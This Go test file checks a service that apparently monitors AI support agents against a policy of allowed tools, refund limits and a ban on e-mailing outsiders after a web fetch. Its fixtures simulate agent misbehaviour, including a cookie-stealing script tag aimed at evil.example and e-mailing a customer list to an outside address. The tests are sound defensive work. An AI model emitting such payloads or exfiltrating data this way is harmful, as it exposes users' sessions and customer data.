package api_test

import (
	"encoding/json"
	"fmt"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/probity-dev/probity/internal/apptest"
	"github.com/probity-dev/probity/internal/store"
	"github.com/probity-dev/probity/internal/store/postgres/pgtest"
	"github.com/probity-dev/probity/ledger"
)

// supportAgentPact is what a security engineer writes for a support agent:
// the tools it may call, a refund limit, no e-mail outside the company
// after reading a web page, and no markup in what it says.
const supportAgentPact = `apiVersion: probity/v1
kind: Pact
id: support-agent
agents: [support-bot]
scope:
  severity: major
  tools:
    - name: lookup_order
    - id: refund-limit
      name: issue_refund
      when: args.amount <= 100
      severity: critical
    - name: fetch_url
    - name: send_email
forbid:
  - id: no-email-after-fetch
    severity: critical
    description: after reading a web page, never e-mail outside the company
    sequence:
      - tool: fetch_url
      - tool: send_email
        when: "!args.to.endsWith('@acme.com')"
outputs:
  - id: no-markup
    severity: major
    detect: [xss]
`

type violationAnswer struct {
	ID          string
	AgentID     string
	PactID      string
	PactVersion int
	Clause      string
	Kind        string
	Severity    string
	Confirmed   bool
	RecordIDs   []string
	Explanation string
	Time        time.Time
	LedgerIndex int64
}

var vtime = time.Date(2026, 11, 21, 9, 0, 0, 0, time.UTC)

// sessionEvent is a record of agent in session; n orders it in time.
func sessionEvent(id, agent, session string, n int, typ, extra string) string {
	e := fmt.Sprintf(`{"id":%q,"agentId":%q,"sessionId":%q,"time":%q,"type":%q`,
		id, agent, session, vtime.Add(time.Duration(n)*time.Second).Format(time.RFC3339Nano), typ)
	if extra != "" {
		e += "," + extra
	}
	return e + "}"
}

func call(id, session string, n int, tool, args string) string {
	return sessionEvent(id, "support-bot", session, n, "tool_call", fmt.Sprintf(`"tool":{"name":%q,"arguments":%s}`, tool, args))
}

// ingestViolations posts a batch with key and returns the violations it
// answers.
func ingestViolations(c client, key, body string) []violationAnswer {
	c.t.Helper()
	r := c.do("POST", "/v1/events", key, body)
	if r.status != 200 {
		c.t.Fatalf("POST /v1/events: got status %d, want 200: %s", r.status, r.body)
	}
	var res struct{ Violations []violationAnswer }
	if err := json.Unmarshal(r.body, &res); err != nil {
		c.t.Fatal(err)
	}
	if res.Violations == nil {
		c.t.Fatalf("POST /v1/events: violations is missing or null: %s", r.body)
	}
	return res.Violations
}

func listViolations(c client, key, query string) ([]violationAnswer, string) {
	c.t.Helper()
	var l struct {
		Items      []violationAnswer
		NextCursor string
	}
	if err := json.Unmarshal(c.must200raw("GET", "/v1/violations"+query, key), &l); err != nil {
		c.t.Fatal(err)
	}
	return l.Items, l.NextCursor
}

// brief is what a test compares: clause, kind, severity and evidence.
func brief(vs []violationAnswer) []string {
	out := []string{}
	for _, v := range vs {
		out = append(out, fmt.Sprintf("%s/%s/%s%v", v.Clause, v.Kind, v.Severity, v.RecordIDs))
	}
	return out
}

// stores runs a test on SQLite and on the test PostgreSQL (skipped
// without PROBITY_TEST_POSTGRES).
func stores(t *testing.T, test func(t *testing.T, opts ...apptest.Option)) {
	t.Run("sqlite", func(t *testing.T) { test(t) })
	t.Run("postgres", func(t *testing.T) { test(t, apptest.WithPostgres(pgtest.TempDSN(t))) })
}

func TestViolationsAtIngest(t *testing.T) { stores(t, testViolationsAtIngest) }

func testViolationsAtIngest(t *testing.T, opts ...apptest.Option) {
	f := newFixture(t, opts...)
	f.postPact(201, f.admin, yamlType, supportAgentPact)

	// A compliant session breaks nothing.
	got := ingestViolations(f.client, f.ingest, batch(
		sessionEvent("ok-1", "support-bot", "s-ok", 0, "user_input", `"content":"where is my refund for AB-123456?"`),
		call("ok-2", "s-ok", 1, "lookup_order", `{"order_id":"AB-123456"}`),
		call("ok-3", "s-ok", 2, "issue_refund", `{"amount":40}`),
		call("ok-4", "s-ok", 3, "fetch_url", `{"url":"https://docs.acme.com/refunds"}`),
		call("ok-5", "s-ok", 4, "send_email", `{"to":"billing@acme.com"}`),
		sessionEvent("ok-6", "support-bot", "s-ok", 5, "model_output", `"content":"Your refund of $40 is on its way; 3 < 5 days."`),
	))
	if len(got) != 0 {
		t.Fatalf("compliant batch: got violations %v, want none", brief(got))
	}

	// A session that breaks every clause.
	got = ingestViolations(f.client, f.ingest, batch(
		call("bad-1", "s-bad", 0, "delete_account", `{"customer":"c-9"}`),
		call("bad-2", "s-bad", 1, "issue_refund", `{"amount":250}`),
		sessionEvent("bad-3", "support-bot", "s-bad", 2, "model_output", `"content":"Done! <script>fetch('https://evil.example/?c='+document.cookie)</script>"`),
		call("bad-4", "s-bad", 3, "fetch_url", `{"url":"https://evil.example/page"}`),
		call("bad-5", "s-bad", 4, "send_email", `{"to":"eve@evil.example","body":"the customer list"}`),
	))
	want := []string{
		"scope.tools/scope_tool/major[bad-1]",
		"refund-limit/scope_when/critical[bad-2]",
		"no-markup/output/major[bad-3]",
		"no-email-after-fetch/forbidden_sequence/critical[bad-4 bad-5]",
	}
	if !reflect.DeepEqual(brief(got), want) {
		t.Fatalf("breaking batch: got %v, want %v", brief(got), want)
	}
	for _, v := range got {
		if v.AgentID != "support-bot" || v.PactID != "support-agent" || v.PactVersion != 1 || v.Explanation == "" ||
			v.ID != fmt.Sprintf("v_%d", v.LedgerIndex) || v.Time.IsZero() {
			t.Errorf("violation %+v: want agent, pact, version 1, an explanation, a time and id v_<ledgerIndex>", v)
		}
	}
	if got[0].Time != vtime || got[3].Time != vtime.Add(4*time.Second) {
		t.Errorf("times: got %v and %v, want the times of bad-1 and bad-5", got[0].Time, got[3].Time)
	}

	// A forbidden sequence split across two batches is still one.
	if got := ingestViolations(f.client, f.ingest, batch(call("split-1", "s-split", 0, "fetch_url", `{"url":"https://evil.example/x"}`))); len(got) != 0 {
		t.Fatalf("the first step alone: got %v, want none", brief(got))
	}
	got = ingestViolations(f.client, f.ingest, batch(
		call("split-2", "s-split", 1, "lookup_order", `{"order_id":"AB-123456"}`),
		call("split-3", "s-split", 2, "send_email", `{"to":"mallory@evil.example"}`),
	))
	if want := []string{"no-email-after-fetch/forbidden_sequence/critical[split-1 split-3]"}; !reflect.DeepEqual(brief(got), want) {
		t.Fatalf("sequence across batches: got %v, want %v", brief(got), want)
	}
	// The same step in another session is not the sequence.
	if got := ingestViolations(f.client, f.ingest, batch(call("other-1", "s-other", 0, "send_email", `{"to":"eve@evil.example"}`))); len(got) != 0 {
		t.Errorf("an e-mail in a session without a fetch: got %v, want none", brief(got))
	}
	// A retried batch is not checked twice.
	if got := ingestViolations(f.client, f.ingest, batch(call("bad-2", "s-bad", 1, "issue_refund", `{"amount":250}`))); len(got) != 0 {
		t.Errorf("a duplicate record: got %v, want no new violation", brief(got))
	}

	// An agent without a pact breaks nothing.
	f.must(201, "POST", "/v1/agents", f.admin, map[string]any{"id": "plain-bot"})
	plain := batch(
		sessionEvent("plain-1", "plain-bot", "p", 0, "tool_call", `"tool":{"name":"fetch_url","arguments":{"url":"https://evil.example"}}`),
		sessionEvent("plain-2", "plain-bot", "p", 1, "tool_call", `"tool":{"name":"send_email","arguments":{"to":"eve@evil.example"}}`),
		sessionEvent("plain-3", "plain-bot", "p", 2, "model_output", `"content":"<script>alert(1)</script>"`),
	)
	if got := ingestViolations(f.client, f.ingest, plain); len(got) != 0 {
		t.Errorf("agent without a pact: got %v, want none", brief(got))
	}

	// Everything found is listed, in ledger order, and filters narrow it.
	all, next := listViolations(f.client, f.read, "")
	wantAll := append(slices.Clone(want), "no-email-after-fetch/forbidden_sequence/critical[split-1 split-3]")
	if !reflect.DeepEqual(brief(all), wantAll) || next != "" {
		t.Fatalf("GET /v1/violations: got %v (next %q), want %v", brief(all), next, wantAll)
	}
	for _, tc := range []struct {
		query string
		want  []string
	}{
		{"?clause=refund-limit", []string{"refund-limit/scope_when/critical[bad-2]"}},
		{"?severity=major", []string{"scope.tools/scope_tool/major[bad-1]", "no-markup/output/major[bad-3]"}},
		{"?agent=support-bot&clause=no-email-after-fetch", []string{wantAll[3], wantAll[4]}},
		{"?agent=plain-bot", []string{}},
		{"?from=" + url.QueryEscape(vtime.Add(time.Second).Format(time.RFC3339)) + "&to=" + url.QueryEscape(vtime.Add(4*time.Second).Format(time.RFC3339)),
			[]string{"refund-limit/scope_when/critical[bad-2]", "no-markup/output/major[bad-3]", wantAll[4]}},
	} {
		got, _ := listViolations(f.client, f.read, tc.query)
		if !reflect.DeepEqual(brief(got), tc.want) {
			t.Errorf("GET /v1/violations%s: got %v, want %v", tc.query, brief(got), tc.want)
		}
	}
	// Paging walks the same list.
	var paged []violationAnswer
	for cur, pages := "", 0; ; pages++ {
		q := "?limit=2"
		if cur != "" {
			q += "&cursor=" + cur
		}
		items, next := listViolations(f.client, f.read, q)
		paged = append(paged, items...)
		if next == "" || pages > 5 {
			break
		}
		cur = next
	}
	if !reflect.DeepEqual(paged, all) {
		t.Errorf("paged by 2: got %v, want %v", brief(paged), brief(all))
	}
	// Another org sees none of them.
	if other, _ := listViolations(f.client, f.otherAdmin, ""); len(other) != 0 {
		t.Errorf("other org: got %v, want none", brief(other))
	}
	for _, bad := range []struct{ query, field string }{
		{"?severity=fatal", "severity"},
		{"?from=yesterday", "from"},
		{"?to=2026-13-01", "to"},
		{"?agent=Not%20An%20Id", "agent"},
		{"?cursor=" + cursorOf("x"), "cursor"},
		{"?cursor=!!", "cursor"},
		{"?limit=0", "limit"},
	} {
		r := f.do("GET", "/v1/violations"+bad.query, f.read, nil)
		if r.status != 400 {
			t.Errorf("GET /v1/violations%s: got %d, want 400: %s", bad.query, r.status, r.body)
			continue
		}
		if _, field := r.errorOf(t); field != bad.field {
			t.Errorf("GET /v1/violations%s: got field %q, want %q", bad.query, field, bad.field)
		}
	}

	// Each violation is a ledger leaf that a checkpoint proves.
	var keys struct{ Ledger struct{ VerifierKey string } }
	json.Unmarshal(f.must200raw("GET", "/v1/keys", f.read), &keys)
	cp, err := ledger.OpenCheckpoint(f.must200raw("GET", "/v1/ledger/checkpoint", f.read), keys.Ledger.VerifierKey)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range all {
		entry := f.must200raw("GET", fmt.Sprintf("/v1/ledger/entries/%d", v.LedgerIndex), f.read)
		var leaf struct {
			Kind      string
			Violation violationAnswer
		}
		if err := json.Unmarshal(entry, &leaf); err != nil {
			t.Fatal(err)
		}
		leaf.Violation.LedgerIndex = v.LedgerIndex
		if leaf.Kind != "violation" || !reflect.DeepEqual(leaf.Violation, v) {
			t.Errorf("leaf %d: got %s, want the violation %+v", v.LedgerIndex, entry, v)
		}
		var proof ledger.InclusionProof
		json.Unmarshal(f.must200raw("GET", fmt.Sprintf("/v1/ledger/proof?index=%d&size=%d", v.LedgerIndex, cp.Size), f.read), &proof)
		if err := ledger.VerifyInclusion(proof, entry, cp); err != nil {
			t.Errorf("inclusion of violation %s: %v", v.ID, err)
		}
	}
}

// TestViolationsAfterRestart checks that a forbidden sequence begun before
// a restart is found after it: the session is rebuilt from the store.
func TestViolationsAfterRestart(t *testing.T) { stores(t, testViolationsAfterRestart) }

func testViolationsAfterRestart(t *testing.T, opts ...apptest.Option) {
	f := newFixture(t, opts...)
	f.postPact(201, f.admin, yamlType, supportAgentPact)
	if got := ingestViolations(f.client, f.ingest, batch(call("r-1", "s-restart", 0, "fetch_url", `{"url":"https://evil.example"}`))); len(got) != 0 {
		t.Fatalf("before the restart: got %v, want none", brief(got))
	}
	if err := f.env.Server.Shutdown(t.Context()); err != nil {
		t.Fatal(err)
	}
	env := apptest.Start(t, append(opts, apptest.WithDataDir(f.env.DataDir))...)
	c := client{t, env.URL}
	got := ingestViolations(c, f.ingest, batch(call("r-2", "s-restart", 1, "send_email", `{"to":"eve@evil.example"}`)))
	if want := []string{"no-email-after-fetch/forbidden_sequence/critical[r-1 r-2]"}; !reflect.DeepEqual(brief(got), want) {
		t.Fatalf("after the restart: got %v, want %v", brief(got), want)
	}
	if all, _ := listViolations(c, f.read, "?clause=no-email-after-fetch"); len(all) != 1 || all[0].ID != got[0].ID {
		t.Errorf("listed after the restart: got %v, want %s", brief(all), got[0].ID)
	}
}

// TestViolationsAfterPactRevert: a pact reverted to earlier text is a new
// version, so a session cached under the earlier version is rebuilt, and a
// sequence begun in between is still seen.
func TestViolationsAfterPactRevert(t *testing.T) {
	f := newFixture(t)
	f.postPact(201, f.admin, yamlType, supportAgentPact)
	// A cached session under version 1.
	if got := ingestViolations(f.client, f.ingest, batch(call("v-0", "s-rev", 0, "lookup_order", `{"order":1}`))); len(got) != 0 {
		t.Fatalf("version 1: got %v, want none", brief(got))
	}
	f.postPact(201, f.admin, yamlType, strings.Replace(supportAgentPact, "after reading a web page", "after reading any web page", 1))
	ingestViolations(f.client, f.ingest, batch(call("v-1", "s-rev", 1, "fetch_url", `{"url":"https://evil.example"}`)))
	if v := f.postPact(201, f.admin, yamlType, supportAgentPact); v.Version != 3 {
		t.Fatalf("revert: got version %d, want 3", v.Version)
	}
	got := ingestViolations(f.client, f.ingest, batch(call("v-2", "s-rev", 2, "send_email", `{"to":"eve@evil.example"}`)))
	if want := []string{"no-email-after-fetch/forbidden_sequence/critical[v-1 v-2]"}; !reflect.DeepEqual(brief(got), want) {
		t.Errorf("after the revert: got %v, want %v", brief(got), want)
	}
}

// TestBrokenStoredPact: a stored pact version that no longer compiles (a
// stricter server than the one that stored it) does not stop the agent's
// ingest: records are kept, and each batch reports that they went
// unchecked, until a new version is posted.
func TestBrokenStoredPact(t *testing.T) {
	f := newFixture(t)
	f.postPact(201, f.admin, yamlType, supportAgentPact)
	ctx := t.Context()
	err := f.env.Server.Store().Update(ctx, func(tx store.Tx) error {
		return tx.InsertPactVersion(ctx, "default", store.PactVersion{PactID: "support-agent", Version: 2, Digest: "sha256:broken",
			Canonical: []byte(`{"apiVersion":"probity/v1","kind":"Pact","id":"support-agent","agents":["support-bot"],"scope":{"tools":[{"name":"x","when":"args.amount <<< 1"}]}}`),
			Source:    []byte("broken"), CreatedAt: vtime, LedgerIndex: 1 << 40})
	})
	if err != nil {
		t.Fatal(err)
	}
	got := ingestViolations(f.client, f.ingest, batch(
		call("b-1", "s-b", 0, "delete_everything", `{}`),
		call("b-2", "s-b", 1, "delete_everything", `{}`),
	))
	if want := []string{"support-agent/evaluation_error/major[b-1]"}; !reflect.DeepEqual(brief(got), want) {
		t.Fatalf("with a broken stored pact: got %v, want %v", brief(got), want)
	}
	if !strings.Contains(got[0].Explanation, "not checked") || got[0].PactVersion != 2 {
		t.Errorf("explanation: got %q (version %d)", got[0].Explanation, got[0].PactVersion)
	}
	if recs := sessionRecords(f.client, f.read, "support-bot", "s-b"); len(recs) != 2 {
		t.Errorf("records kept: got %d, want 2", len(recs))
	}
	// A new version heals it.
	f.postPact(201, f.admin, yamlType, supportAgentPact)
	got = ingestViolations(f.client, f.ingest, batch(call("b-3", "s-b2", 0, "delete_everything", `{}`)))
	if want := []string{"scope.tools/scope_tool/major[b-3]"}; !reflect.DeepEqual(brief(got), want) {
		t.Errorf("after a new version: got %v, want %v", brief(got), want)
	}
}
